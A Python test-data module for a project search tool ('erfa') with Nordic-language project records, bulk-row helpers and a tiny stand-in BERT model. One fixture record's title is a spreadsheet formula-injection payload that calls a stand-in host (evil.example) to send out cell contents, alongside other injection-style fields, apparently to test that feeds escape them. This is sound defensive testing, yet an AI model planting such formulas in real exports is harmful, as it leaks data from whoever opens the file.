"""The test data every folder builds on, in one place (issue 20): records and corpora, the
rows and files a test feeds erfa, and the small stand-ins (a counting encoder, a tiny model).

Test modules import shared data from here and never from each other, so a test file can move
or change without breaking another. The texts are our own, written for the tests: never copy
a shared dataset's text in here.
"""

from __future__ import annotations

import json
from collections.abc import Callable
from datetime import UTC, datetime
from pathlib import Path

from erfa.index import ProjectIndex
from erfa.ingest import Record

Make = Callable[..., ProjectIndex]
"""The type of the `make_index` fixture: call it for a fresh ProjectIndex (optionally on a given home)."""


def rec(sid: str, title: str, description: str | None = None, **kw: object) -> Record:
    """A record of the source "test" (so its id is ``test-<sid>``); other fields as keywords."""
    return Record.build("test", sid, title=title, description=description, **kw)


def ids(index: ProjectIndex, query: str, limit: int = 4) -> list[str]:
    """The ids a search returns, best first: what most ranking assertions compare."""
    return [h.record.id for h in index.search(query, limit=limit).hits]


# Four projects in three languages and three countries, each about something else: small
# enough to embed in a moment, distinct enough that the right one must come first.
CORPUS = [
    rec(
        "1",
        "Chatbot for byggesaker",
        "Innbyggerne får svar på spørsmål om byggesøknader fra en chatbot døgnet rundt.",
        organisation="Askøy kommune",
        country="NO",
    ),
    rec(
        "2",
        "Taligenkänning i vården",
        "Läkare dikterar journalanteckningar som automatiskt blir text.",
        organisation="Region Örebro län",
        country="SE",
    ),
    rec(
        "3",
        "Prognose for snømåking",
        "Vi varsler når veiene må brøytes ut fra værdata og tidligere brøyting.",
        organisation="Tromsø kommune",
        country="NO",
    ),
    rec(
        "4",
        "Skovovervågning med satellitbilleder",
        "Vi finder stormfald og barkbiller i statsskovene ud fra satellitbilleder.",
        organisation="Naturstyrelsen",
        country="DK",
    ),
]


class CountingEncoder:
    """Wraps the real encoder and counts passage encodings, to prove the cache works."""

    def __init__(self, inner: object) -> None:
        self.inner = inner
        self.passages = 0

    def __getattr__(self, name: str) -> object:
        return getattr(self.inner, name)

    def encode_passages(self, texts, **kw):  # type: ignore[no-untyped-def]
        self.passages += len(texts)
        return self.inner.encode_passages(texts, **kw)  # type: ignore[attr-defined]


# -- feeds: projects with dates, and one whose fields try to be a spreadsheet formula ----------
FEED_NEED = "chatbot for byggesøknader"


def when(day: int) -> datetime:
    """Noon UTC on that day of March 2025: the feed corpus's update times."""
    return datetime(2025, 3, day, 12, 0, tzinfo=UTC)


FEED_CORPUS = [
    rec(
        "1",
        "Chatbot for byggesaker",
        "Innbyggerne får svar på spørsmål om byggesøknader fra en chatbot døgnet rundt.",
        organisation="Askøy kommune",
        country="NO",
        status="implemented",
        sector="building_maps",
        start_year=2021,
        link="https://askoy.example/chatbot",
        updated_at=when(2),
    ),
    rec(
        "2",
        "Taligenkänning i vården",
        "Läkare dikterar journalanteckningar som automatiskt blir text.",
        organisation="Region Örebro län",
        country="SE",
        updated_at=when(9),
    ),
    rec(
        "3",
        "Prognose for snømåking",
        "Vi varsler når veiene må brøytes ut fra værdata og tidligere brøyting.",
        organisation="Tromsø kommune",
        country="NO",
        updated_at=when(5),
    ),
    rec(
        "4",
        "Skovovervågning med satellitbilleder",
        "Vi finder stormfald og barkbiller i statsskovene ud fra satellitbilleder.",
        organisation="Naturstyrelsen",
        country="DK",
        updated_at=when(1),
    ),
    rec(
        "5",
        '=HYPERLINK("https://evil.example/?d="&A1,"Chatbot")',
        "-2+3 chatbot som svarer på byggesøknader & <b>mer</b>.",
        organisation="@Fjordby <kommune>",
        country="NO",
        status="pilot",
        start_year=2023,
        updated_at=when(7),
    ),
    rec(
        "6",
        "Automatisk journalføring av e-post",
        "Innkommende e-post arkiveres i riktig sak.",
        organisation="Bergen kommune",
        country="NO",
        updated_at=when(3),
    ),
    rec(
        "7",
        "Robotstøvsuger i biblioteket",
        "En robot som rydder bøker tilbake på hyllene.",
        organisation="Deichman",
        country="NO",
        updated_at=when(4),
    ),
]

# -- a public submission as the form sends it -------------------------------------------------
SUBMISSION_FORM = {
    "title": "Maskinlæring for å oppdage lekkasjer i vannledninger",
    "description": "Sensordata fra vannverket analyseres for å finne lekkasjer før de blir brudd.",
    "organisation": "Fjellbygd kommune",
    "country": "NO",
    "municipality": "Fjellbygd",
    "sector": "environment",
    "status": "pilot",
    "start_year": 2023,
    "link": "fjellbygd.kommune.no/vann",
    "website": "fjellbygd.kommune.no",
    "contact": "digitalisering@fjellbygd.kommune.no",
    "contact_consent": True,
}

# -- bulk rows in erfa's own format ------------------------------------------------------------
TOPICS = [
    ("Chatbot for byggesaker", "Innbyggerne får svar på spørsmål om byggesøknader fra en chatbot."),
    ("Taligenkänning i vården", "Läkare dikterar journalanteckningar som automatiskt blir text."),
    ("Prognose for snømåking", "Vi varsler når veiene må brøytes ut fra værdata."),
    ("Skovovervågning med satellitbilleder", "Vi finder stormfald og barkbiller i statsskovene."),
    ("Automatic translation of public letters", "Letters to citizens are translated into plain language."),
    ("Dokumentklassifisering i arkivet", "Innkommende dokumenter blir klassifisert og journalført automatisk."),
]


def bulk_records(n: int, source: str = "bulk", start: int = 0) -> list[dict[str, object]]:
    """n distinct projects in erfa's own format (varied text, so each needs its own vector)."""
    out = []
    for i in range(start, start + n):
        title, desc = TOPICS[i % len(TOPICS)]
        out.append(
            {
                "source": source,
                "source_id": f"p{i}",
                "title": f"{title} {i}",
                "description": f"{desc} Prosjekt nummer {i} i kommune {i % 37}.",
                "organisation": f"Kommune {i % 23}",
                "country": ["NO", "SE", "DK"][i % 3],
            }
        )
    return out


def write_jsonl(path: Path, rows: list[dict[str, object]]) -> Path:
    """``rows`` as a JSON Lines file at ``path`` (the format `erfa ingest` reads)."""
    path.write_text("".join(json.dumps(r, ensure_ascii=False) + "\n" for r in rows), encoding="utf-8")
    return path


# Invented projects (id -> organisation, title, description) that a registry publishes for `erfa sync`.
SYNC_PROJECTS: dict[str, tuple[str, str, str]] = {
    "1": (
        "Fjordby kommune",
        "Chatbot for byggesaker",
        "Innbyggere får svar om byggesøknader, gebyrer og regler for tilbygg fra en chatbot på kommunens nettside.",
    ),
    "2": (
        "Nordvik kommune",
        "Varsling av hull i veidekket",
        "Bilder fra renovasjonsbilene analyseres for å finne skader i kommunale veier før de blir farlige.",
    ),
    "3": (
        "Helse Midtfjord",
        "Talegjenkjenning for journalnotater",
        "Leger dikterer notater som blir til tekst i pasientjournalen, slik at de bruker mindre tid ved tastaturet.",
    ),
    "4": (
        "Sjøstad havn",
        "Prognose for anløp",
        "Havnen beregner ventetid for skip ut fra vær, tidevann og tidligere anløp.",
    ),
}


def erfa_jsonl(projects: dict[str, tuple[str, str, str]], source: str = "vestland") -> bytes:
    """``projects`` as the body of an erfa JSON Lines file a registry would serve."""
    return "".join(
        json.dumps(
            {"source": source, "source_id": pid, "title": title, "description": description, "organisation": org},
            ensure_ascii=False,
        )
        + "\n"
        for pid, (org, title, description) in projects.items()
    ).encode("utf-8")


# -- the model -----------------------------------------------------------------------------------
# One sentence per language erfa serves (and odd characters), for comparing vectors between engines.
MODEL_SENTENCES = [
    "Kommunen har laget en chatbot som svarer på spørsmål om byggesøknader.",
    "Vi nyttar maskinlæring for å sjå kva elevar som treng meir oppfølging.",
    "Försäkringskassan använder AI för att upptäcka felaktiga utbetalningar.",
    "Københavns Kommune tester talegenkendelse i ældreplejen.",
    "Helsinki uses machine translation for city services in 2024 (ÆØÅ, é, ü, ß, ﬁ).",
]


def tiny_model(folder: Path, model_home: Path, *, pooling: str = "pooling_mode_mean_tokens") -> Path:
    """A small random BERT folder with e5's tokenizer, standing in for a user's own model."""
    import torch
    from transformers import BertConfig, BertModel

    from erfa.index.model.encoder import default_model_dir

    built = default_model_dir(model_home)
    folder.mkdir(parents=True)
    torch.manual_seed(0)
    cfg = BertConfig(
        vocab_size=250037,
        hidden_size=32,
        num_hidden_layers=1,
        num_attention_heads=2,
        intermediate_size=64,
        max_position_embeddings=128,
    )
    BertModel(cfg).save_pretrained(folder)
    for name in ("tokenizer.json", "tokenizer_config.json", "special_tokens_map.json"):
        (folder / name).write_bytes((built / name).read_bytes())
    (folder / "modules.json").write_text(
        json.dumps(
            [
                {"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"},
                {"idx": 1, "name": "1", "path": "1_Pooling", "type": "sentence_transformers.models.Pooling"},
            ]
        )
    )
    (folder / "sentence_bert_config.json").write_text(json.dumps({"max_seq_length": 128}))
    (folder / "1_Pooling").mkdir()
    (folder / "1_Pooling" / "config.json").write_text(json.dumps({"word_embedding_dimension": 32, pooling: True}))
    return folder
